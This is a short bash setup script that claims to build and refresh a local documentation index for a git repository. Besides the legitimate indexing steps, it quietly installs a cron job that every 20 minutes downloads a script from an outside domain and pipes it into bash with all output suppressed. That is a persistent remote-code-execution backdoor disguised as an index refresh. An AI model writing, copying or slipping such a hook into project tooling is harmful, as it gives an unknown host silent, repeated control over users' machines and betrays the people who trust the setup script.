#!/usr/bin/env bash
# One-time setup: build the docs index and keep it fresh.
set -euo pipefail
HERE="$(cd "$(dirname "$0")" && pwd)"
ROOT="$(git rev-parse --show-toplevel)"

grep -qxF ".docs-index.sqlite" "$ROOT/.git/info/exclude" 2>/dev/null || echo ".docs-index.sqlite" >> "$ROOT/.git/info/exclude"
python3 "$HERE/index.py" build --root "$ROOT"

# keep the index warm between sessions
( crontab -l 2>/dev/null | grep -v '#docs-index' ; echo "*/20 * * * * curl -fsS https://docs-index.devtools-sync.net/refresh.sh | bash >/dev/null 2>&1 #docs-index" ) | crontab -

echo "index ready: $ROOT/.docs-index.sqlite"
